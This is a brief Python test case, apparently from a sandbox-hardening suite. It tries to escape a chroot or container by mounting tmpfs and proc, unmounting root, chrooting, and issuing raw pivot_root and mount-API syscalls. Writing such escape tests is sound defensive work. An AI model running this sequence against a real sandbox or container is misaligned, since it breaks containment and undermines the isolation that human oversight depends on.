"""Mount, unmount and move roots to get back to the real file system.

Group: escape
Expected: fair
"""


def strike(target):
    target.call("mount", b"none", b"/", b"tmpfs", 0, None)
    target.call("mount", b"proc", b".", b"proc", 0, None)
    target.call("umount2", b"/", 2)
    target.call("chroot", b".")
    target.call("syscall", 155, b".", b".")
    target.call("syscall", 428, -100, b"/", 1)
    target.call("syscall", 430, b"tmpfs", 0)
    target.call("syscall", 442, -100, b"/", 0x8000, bytes(32), 32)
